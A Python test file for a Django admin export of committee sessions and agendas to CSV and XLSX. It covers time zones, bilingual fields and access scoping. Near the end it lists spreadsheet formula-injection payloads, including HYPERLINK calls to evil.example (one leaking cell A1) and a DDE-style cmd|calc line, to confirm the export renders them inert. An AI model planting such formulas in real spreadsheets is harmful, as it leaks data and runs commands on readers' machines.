"""Sessions with their agendas, exported from the admin as CSV (one row a session, stable keys)
and XLSX (a sheet of sessions and a sheet of agenda items, typed cells, the reader's language)."""

import copy
import csv
import io
from datetime import UTC, datetime

import openpyxl
import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from committees.access import EVERYTHING, Access
from committees.models import Person
from meetings.models import AgendaItem, RecordEntry, RecordVersion, Session
from meetings.records.services import record_approve, record_propose, record_save, record_start
from tests.api import secretariat_of, token_client
from tests.factories import AgendaItemFactory, CommitteeFactory, PersonFactory, SessionFactory
from tracker.models import UserPreferences
from tracker.spreadsheets import FORMULA_TRIGGERS

pytestmark = pytest.mark.django_db

BOM = b"\xef\xbb\xbf"
CAPITALS_FIRST = (
    "Lima: 2025-12-01 08:00 UTC-05:00 (America/Lima); Santiago: 2025-12-01 10:00 UTC-03:00 (America/Santiago)"
)
# July: Santiago is on its winter clock, an hour ahead of Lima instead of two.
CAPITALS_SECOND = (
    "Lima: 2026-07-06 10:00 UTC-05:00 (America/Lima); Santiago: 2026-07-06 11:00 UTC-04:00 (America/Santiago)"
)


def _agreed(session, texts: dict[int, tuple[str, str]]) -> None:
    """An approved record of `session` agreeing `texts` (Spanish, English) on the items at those positions."""
    record = record_start(session=session, access=EVERYTHING)
    items = {item.position: item for item in session.agenda_items.all()}
    entries = [RecordEntry(agenda_item=items[n], kind="decision", text=es, text_en=en) for n, (es, en) in texts.items()]
    record = record_propose(
        record=record_save(record=record, access=EVERYTHING, user=None, entries=entries), access=EVERYTHING
    )
    committee = session.committee
    for country in committee.countries:
        side = Access(
            everything=False, committees=frozenset({committee.pk}), delegations=frozenset({(committee.pk, country)})
        )
        record = record_approve(record=record, revision=record.revision, access=side, user=None)


@pytest.fixture
def sessions():
    committee = CommitteeFactory(slug="chile-peru")
    first = SessionFactory(
        committee=committee,
        number=1,
        title="Primera sesión",
        title_en="First session",
        description="Instalación del comité.",
        description_en="Setting up the committee.",
        status="held",
        starts_at=datetime(2025, 12, 1, 13, 0, tzinfo=UTC),
        ends_at=datetime(2025, 12, 1, 15, 0, tzinfo=UTC),
        timezone="America/Santiago",
        venue="Cancillería, Santiago",
        host_country="CL",
    )
    chair = PersonFactory(full_name="Alberto van Klaveren")
    AgendaItemFactory(
        session=first, position=1, title="Apertura", title_en="Opening", presenter=chair, duration_minutes=15
    )
    AgendaItemFactory(
        session=first,
        position=2,
        title="Corredor humanitario",
        title_en="Humanitarian corridor",
        description="Paso Chacalluta–Santa Rosa.",
        description_en="The Chacalluta–Santa Rosa crossing.",
        duration_minutes=60,
    )
    AgendaItemFactory(session=first, position=3, title="Varios", duration_minutes=10)
    _agreed(first, {2: ("Acordado", "Agreed"), 3: ("Sin acuerdos", "")})
    second = SessionFactory(
        committee=committee,
        number=2,
        title="Segunda sesión",
        status="scheduled",
        starts_at=datetime(2026, 7, 6, 15, 0, tzinfo=UTC),
        ends_at=datetime(2026, 7, 6, 17, 0, tzinfo=UTC),
        timezone="America/Lima",
        venue="Torre Tagle, Lima, Perú",
        host_country="PE",
    )
    other = SessionFactory(committee=CommitteeFactory(slug="other"), number=1, title="Not ours")
    AgendaItemFactory(session=other, position=1, title="Not ours either")
    return first, second, other


def _export(client, action, *sessions, **extra):
    return client.post(
        "/admin/meetings/session/", {"action": action, "_selected_action": [str(s.pk) for s in sessions]}, **extra
    )


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def _workbook(response):
    return openpyxl.load_workbook(io.BytesIO(response.content))


def _cells(sheet) -> list[list[tuple]]:
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


CSV_HEADER = [
    "committee",
    "number",
    "title",
    "title_en",
    "status",
    "status_label",
    "starts (venue)",
    "ends (venue)",
    "starts (capitals)",
    "timezone",
    "starts_at",
    "ends_at",
    "venue",
    "host_country",
    "description",
    "description_en",
    "agenda",
    "agenda_en",
    "uid",
]


def test_csv_export_holds_each_session_with_its_agenda_in_both_languages(admin_client, sessions):
    first, second, _other = sessions
    response = _export(admin_client, "export_csv", second, first)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="sessions-')
    assert response.content.startswith(BOM + b"committee,number,")
    assert "Torre Tagle, Lima, Perú".encode() in response.content
    assert _csv_rows(response) == [
        CSV_HEADER,
        [
            "chile-peru",
            "1",
            "Primera sesión",
            "First session",
            "held",
            "Held",
            "2025-12-01 10:00 UTC-03:00 (America/Santiago)",
            "2025-12-01 12:00 UTC-03:00 (America/Santiago)",
            CAPITALS_FIRST,
            "America/Santiago",
            "2025-12-01T10:00:00-03:00",
            "2025-12-01T12:00:00-03:00",
            "Cancillería, Santiago",
            "CL",
            "Instalación del comité.",
            "Setting up the committee.",
            "1. Apertura — Alberto van Klaveren (15 min)\n"
            "2. Corredor humanitario (60 min): Acordado\n"
            "3. Varios (10 min): Sin acuerdos",
            # An item with no English text shows its Spanish one, as the tracker does for English readers.
            "1. Opening — Alberto van Klaveren (15 min)\n"
            "2. Humanitarian corridor (60 min): Agreed\n"
            "3. Varios (10 min): Sin acuerdos",
            first.uid,
        ],
        [
            "chile-peru",
            "2",
            "Segunda sesión",
            "",
            "scheduled",
            "Scheduled",
            "2026-07-06 10:00 UTC-05:00 (America/Lima)",
            "2026-07-06 12:00 UTC-05:00 (America/Lima)",
            CAPITALS_SECOND,
            "America/Lima",
            "2026-07-06T10:00:00-05:00",
            "2026-07-06T12:00:00-05:00",
            "Torre Tagle, Lima, Perú",
            "PE",
            "",
            "",
            "",
            "",
            second.uid,
        ],
    ]


def test_csv_export_keeps_its_keys_and_gives_the_status_label_in_the_readers_language(admin_client, sessions):
    first, _second, _other = sessions
    rows = _csv_rows(_export(admin_client, "export_csv", first, HTTP_ACCEPT_LANGUAGE="es"))
    assert rows[0] == CSV_HEADER
    row = dict(zip(rows[0], rows[1], strict=True))
    assert {key: row[key] for key in ("status", "status_label", "agenda_en")} == {
        "status": "held",
        "status_label": "Realizada",
        "agenda_en": "1. Opening — Alberto van Klaveren (15 min)\n"
        "2. Humanitarian corridor (60 min): Agreed\n"
        "3. Varios (10 min): Sin acuerdos",
    }


SESSION_HEADERS_EN = [
    "Committee",
    "Number",
    "Title (Spanish)",
    "Title (English)",
    "Status",
    "Starts (venue clock)",
    "Ends (venue clock)",
    "Venue time zone",
    "Starts (RFC 3339, with UTC offset)",
    "Ends (RFC 3339, with UTC offset)",
    "Starts (capitals)",
    "Venue",
    "Host country",
    "Description (Spanish)",
    "Description (English)",
    "Calendar UID",
]
AGENDA_HEADERS_EN = [
    "Committee",
    "Session number",
    "Position",
    "Title (Spanish)",
    "Title (English)",
    "Description (Spanish)",
    "Description (English)",
    "Presenter",
    "Duration (minutes)",
    "Agreed (Spanish)",
    "Agreed (English)",
]
EMPTY = (None, "n")  # how openpyxl reads a cell with nothing in it


def test_xlsx_export_has_a_sheet_of_sessions_and_one_of_agenda_items_with_typed_cells(admin_client, sessions):
    first, second, _other = sessions
    response = _export(admin_client, "export_xlsx", second, first)
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].startswith('attachment; filename="sessions-')
    workbook = _workbook(response)
    assert workbook.sheetnames == ["Sessions", "Agenda items"]
    assert _cells(workbook["Sessions"]) == [
        [(header, "s") for header in SESSION_HEADERS_EN],
        [
            ("chile-peru", "s"),
            (1, "n"),
            ("Primera sesión", "s"),
            ("First session", "s"),
            ("Held", "s"),
            (datetime(2025, 12, 1, 10, 0), "d"),  # a cell has no zone: column H names it
            (datetime(2025, 12, 1, 12, 0), "d"),
            ("America/Santiago", "s"),
            ("2025-12-01T10:00:00-03:00", "s"),
            ("2025-12-01T12:00:00-03:00", "s"),
            (CAPITALS_FIRST, "s"),
            ("Cancillería, Santiago", "s"),
            ("Chile", "s"),
            ("Instalación del comité.", "s"),
            ("Setting up the committee.", "s"),
            (first.uid, "s"),
        ],
        [
            ("chile-peru", "s"),
            (2, "n"),
            ("Segunda sesión", "s"),
            EMPTY,
            ("Scheduled", "s"),
            (datetime(2026, 7, 6, 10, 0), "d"),
            (datetime(2026, 7, 6, 12, 0), "d"),
            ("America/Lima", "s"),
            ("2026-07-06T10:00:00-05:00", "s"),
            ("2026-07-06T12:00:00-05:00", "s"),
            (CAPITALS_SECOND, "s"),
            ("Torre Tagle, Lima, Perú", "s"),
            ("Peru", "s"),
            EMPTY,
            EMPTY,
            (second.uid, "s"),
        ],
    ]
    assert _cells(workbook["Agenda items"]) == [
        [(header, "s") for header in AGENDA_HEADERS_EN],
        [
            ("chile-peru", "s"),
            (1, "n"),
            (1, "n"),
            ("Apertura", "s"),
            ("Opening", "s"),
            EMPTY,
            EMPTY,
            ("Alberto van Klaveren", "s"),
            (15, "n"),
            EMPTY,
            EMPTY,
        ],
        [
            ("chile-peru", "s"),
            (1, "n"),
            (2, "n"),
            ("Corredor humanitario", "s"),
            ("Humanitarian corridor", "s"),
            ("Paso Chacalluta–Santa Rosa.", "s"),
            ("The Chacalluta–Santa Rosa crossing.", "s"),
            EMPTY,
            (60, "n"),
            ("Acordado", "s"),
            ("Agreed", "s"),
        ],
        [
            ("chile-peru", "s"),
            (1, "n"),
            (3, "n"),
            ("Varios", "s"),
            EMPTY,
            EMPTY,
            EMPTY,
            EMPTY,
            (10, "n"),
            ("Sin acuerdos", "s"),
            EMPTY,
        ],
    ]


def test_xlsx_sheets_are_ready_to_read_filter_and_sort(admin_client, sessions):
    first, _second, _other = sessions
    workbook = _workbook(_export(admin_client, "export_xlsx", first))
    sessions_sheet, agenda_sheet = workbook["Sessions"], workbook["Agenda items"]
    assert [
        (sheet.freeze_panes, sheet.auto_filter.ref, {cell.font.b for cell in sheet[1]})
        for sheet in (sessions_sheet, agenda_sheet)
    ] == [("A2", "A1:P2", {True}), ("A2", "A1:K4", {True})]
    assert [sessions_sheet[ref].number_format for ref in ("F2", "G2")] == ["yyyy-mm-dd hh:mm"] * 2
    assert sessions_sheet["K2"].alignment.wrap_text is None  # one line
    assert sessions_sheet.column_dimensions["K"].width == 60  # long, so capped


def test_xlsx_export_reads_in_the_admin_users_language(admin_client, admin_user, sessions):
    first, second, _other = sessions
    UserPreferences.objects.create(user=admin_user, language="es")
    workbook = _workbook(_export(admin_client, "export_xlsx", first, second, HTTP_ACCEPT_LANGUAGE="en"))
    assert workbook.sheetnames == ["Sesiones", "Puntos de la agenda"]
    rows = list(workbook["Sesiones"].iter_rows(values_only=True))
    assert rows[0] == (
        "Comité",
        "Número",
        "Título (español)",
        "Título (inglés)",
        "Estado",
        "Comienza (hora de la sede)",
        "Termina (hora de la sede)",
        "Zona horaria de la sede",
        "Comienza (RFC 3339, con desfase UTC)",
        "Termina (RFC 3339, con desfase UTC)",
        "Comienza (capitales)",
        "Sede",
        "País anfitrión",
        "Descripción (español)",
        "Descripción (inglés)",
        "UID de calendario",
    )
    assert [(row[4], row[12]) for row in rows[1:]] == [("Realizada", "Chile"), ("Programada", "Perú")]
    assert next(workbook["Puntos de la agenda"].iter_rows(values_only=True)) == (
        "Comité",
        "Número de sesión",
        "Posición",
        "Título (español)",
        "Título (inglés)",
        "Descripción (español)",
        "Descripción (inglés)",
        "Expositor",
        "Duración (minutos)",
        "Acordado (español)",
        "Acordado (inglés)",
    )


def test_a_secretariat_exports_only_its_committee(sessions):
    first, second, other = sessions
    client = Client()
    client.force_login(secretariat_of(first.committee, "CL"))
    workbook = _workbook(_export(client, "export_xlsx", first, second, other))
    assert [row[:3] for row in workbook["Sessions"].iter_rows(values_only=True)] == [
        ("Committee", "Number", "Title (Spanish)"),
        ("chile-peru", 1, "Primera sesión"),
        ("chile-peru", 2, "Segunda sesión"),
    ]
    assert [row[:4] for row in workbook["Agenda items"].iter_rows(values_only=True)] == [
        ("Committee", "Session number", "Position", "Title (Spanish)"),
        ("chile-peru", 1, 1, "Apertura"),
        ("chile-peru", 1, 2, "Corredor humanitario"),
        ("chile-peru", 1, 3, "Varios"),
    ]
    rows = _csv_rows(_export(client, "export_csv", first, second, other))
    assert [row[:3] for row in rows] == [
        ["committee", "number", "title"],
        ["chile-peru", "1", "Primera sesión"],
        ["chile-peru", "2", "Segunda sesión"],
    ]


def test_the_export_reads_as_many_queries_for_three_sessions_as_for_one(admin_client, sessions):
    first, second, _other = sessions
    third = SessionFactory(committee=first.committee, number=3)
    AgendaItemFactory(session=third, position=1, presenter=PersonFactory())
    counts = {}
    for action in ("export_csv", "export_xlsx"):
        for chosen in ((first,), (first, second, third)):
            with CaptureQueriesContext(connection) as queries:
                assert _export(admin_client, action, *chosen).status_code == 200
            counts[action, len(chosen)] = len(queries)
    assert counts[("export_csv", 1)] == counts[("export_csv", 3)]
    assert counts[("export_xlsx", 1)] == counts[("export_xlsx", 3)]


# Text a spreadsheet would run, and what the export writes: an apostrophe, then all of the text.
HOSTILE = [
    ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
    ('==HYPERLINK("http://evil.example","x")', '\'==HYPERLINK("http://evil.example","x")'),
    ("=x", "'=x"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("-5", "'-5"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
]
# The columns of the cells that are not text (empty cells aside): numbers and wall-clock times.
SESSION_TYPES = {"B": {"n"}, "F": {"d"}, "G": {"d"}}
AGENDA_TYPES = {"B": {"n"}, "C": {"n"}, "I": {"n"}}


def _types(sheet) -> dict[str, set[str]]:
    types: dict[str, set[str]] = {}
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if cell.value is None:
                continue
            types.setdefault(cell.column_letter, set()).add(cell.data_type)
    return {column: kinds for column, kinds in types.items() if kinds != {"s"}}


@pytest.mark.parametrize(("text", "written"), HOSTILE)
def test_text_a_spreadsheet_would_run_is_exported_inert_and_whole(admin_client, sessions, text, written):
    first, _second, _other = sessions
    # Written straight to the tables: titles with a tab or CR are refused on input, and the export
    # must be safe for any text stored.
    texts = dict.fromkeys(("title", "title_en", "description", "description_en", "venue"), text)
    Session.objects.filter(pk=first.pk).update(**texts)
    AgendaItem.objects.filter(session=first).update(
        **dict.fromkeys(("title", "title_en", "description", "description_en"), text)
    )
    # An approved version is never changed: a later one, written straight to its table, holds the text.
    version = RecordVersion.objects.get(record__session=first)
    content = copy.deepcopy(version.content)
    for item in content["items"]:
        item["entries"] = [{**entry, "text": text, "text_en": text} for entry in content["items"][1]["entries"]]
    RecordVersion.objects.create(
        record=version.record, number=2, revision=99, content=content, digest="x", approved_at=version.approved_at
    )
    Person.objects.filter(full_name="Alberto van Klaveren").update(full_name=text)

    rows = _csv_rows(_export(admin_client, "export_csv", first))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert {key: row[key] for key in texts} == dict.fromkeys(texts, written)
    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_TRIGGERS)] == []

    workbook = _workbook(_export(admin_client, "export_xlsx", first))
    in_xml = written.replace("\r", "\n")  # XML reads a stored CR back as a line break
    sessions_sheet, agenda_sheet = workbook["Sessions"], workbook["Agenda items"]
    assert [sessions_sheet[f"{column}2"].value for column in "CDLNO"] == [in_xml] * 5
    assert [agenda_sheet[f"{column}2"].value for column in "DEFGHJK"] == [in_xml] * 7
    assert (_types(sessions_sheet), _types(agenda_sheet)) == (SESSION_TYPES, AGENDA_TYPES)
    cells = [value for sheet in workbook for row in sheet.iter_rows(values_only=True) for value in row]
    assert [cell for cell in cells if isinstance(cell, str) and cell.startswith(FORMULA_TRIGGERS)] == []


def test_text_that_looks_like_an_error_value_stays_text_in_xlsx(admin_client, sessions):
    first, _second, _other = sessions
    Session.objects.filter(pk=first.pk).update(title="#N/A")
    cell = _workbook(_export(admin_client, "export_xlsx", first))["Sessions"]["C2"]
    assert (cell.value, cell.data_type) == ("#N/A", "s")


def test_a_formula_planted_through_the_api_reaches_the_other_delegation_inert(sessions):
    first, _second, _other = sessions
    planted = '=HYPERLINK("http://evil.example/?"&A1,"Agenda")'
    response = token_client(secretariat_of(first.committee, "PE")).patch(
        f"/api/v1/sessions/{first.pk}/", {"venue": planted}, format="json"
    )
    assert (response.status_code, response.json()["venue"]) == (200, planted)
    client = Client()
    client.force_login(secretariat_of(first.committee, "CL"))
    rows = _csv_rows(_export(client, "export_csv", first))
    assert dict(zip(rows[0], rows[1], strict=True))["venue"] == "'" + planted
    cell = _workbook(_export(client, "export_xlsx", first))["Sessions"]["L2"]
    assert (cell.value, cell.data_type) == ("'" + planted, "s")
